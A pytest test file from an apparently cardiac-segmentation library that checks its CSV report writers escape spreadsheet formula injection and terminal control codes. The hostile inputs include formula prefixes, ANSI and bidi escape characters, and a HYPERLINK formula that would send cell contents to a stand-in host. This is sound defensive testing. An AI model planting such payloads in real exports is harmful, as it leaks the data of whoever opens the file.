"""CSV that a spreadsheet program shows as it is."""

import csv

import pytest
from CLSTMSegmentLib.core.sequence import SequenceIndex
from CLSTMSegmentLib.core.structure import PALETTE, Segment
from CLSTMSegmentLib.core.volume_curve import FrameVolumes, VolumeCurve
from CLSTMSegmentLib.report.cohort_summary import CohortRow, write_summary
from CLSTMSegmentLib.report.csv_table import write_table
from CLSTMSegmentLib.report.volumes_csv import write_volumes


def cells_in(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "\uff1d1+1", "=", "-", "-a"])
def test_text_that_a_spreadsheet_would_take_for_a_formula_is_none(text, tmp_path):
    write_table(tmp_path / "table.csv", [[text]])

    assert cells_in(tmp_path / "table.csv") == [f"'{text}"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\x1b[31mred", "\\x1b[31mred"),
        ("a\nb\r", "a\\nb\\r"),
        ("\x9b2J\u202e", "\\x9b2J\\u202e"),
        ("\udcff.nrrd", "\\udcff.nrrd"),
    ],
)
def test_codes_for_a_terminal_are_written_as_their_names(text, cell, tmp_path):
    write_table(tmp_path / "table.csv", [[text, "last"]])

    assert cells_in(tmp_path / "table.csv") == [cell, "last"]


@pytest.mark.parametrize("text", ["-12.5", "+3e-5", "1+1", "Atrium, left", "", "a=b", "心臓", "左　室", "'quoted'"])
def test_other_texts_and_numbers_stay_as_they_are(text, tmp_path):
    write_table(tmp_path / "table.csv", [[text, "last"]])

    assert cells_in(tmp_path / "table.csv") == [text, "last"]


def test_no_name_becomes_a_formula_in_the_tables_of_runs_and_cohorts(tmp_path):
    formula = '=HYPERLINK("http://a.example?"&A1)'
    segments = (Segment("a", formula, PALETTE[0], ejecting_chamber=True),)
    curve = VolumeCurve(segments, SequenceIndex([formula, "-2.5"], formula, "ms", "text"))
    for number, value in enumerate(curve.index.values):
        curve.add(FrameVolumes(number, value, (1.0,)))
    rows = [CohortRow(formula, formula, curve), CohortRow(formula, formula, None, error=formula)]

    write_volumes(tmp_path / "volumes.csv", curve)
    write_summary(tmp_path / "summary.csv", segments, rows)

    cells = cells_in(tmp_path / "volumes.csv") + cells_in(tmp_path / "summary.csv")
    assert sum(formula in cell for cell in cells) >= 8
    assert not [cell for cell in cells if cell.startswith("=")]
    assert "-2.5" in cells
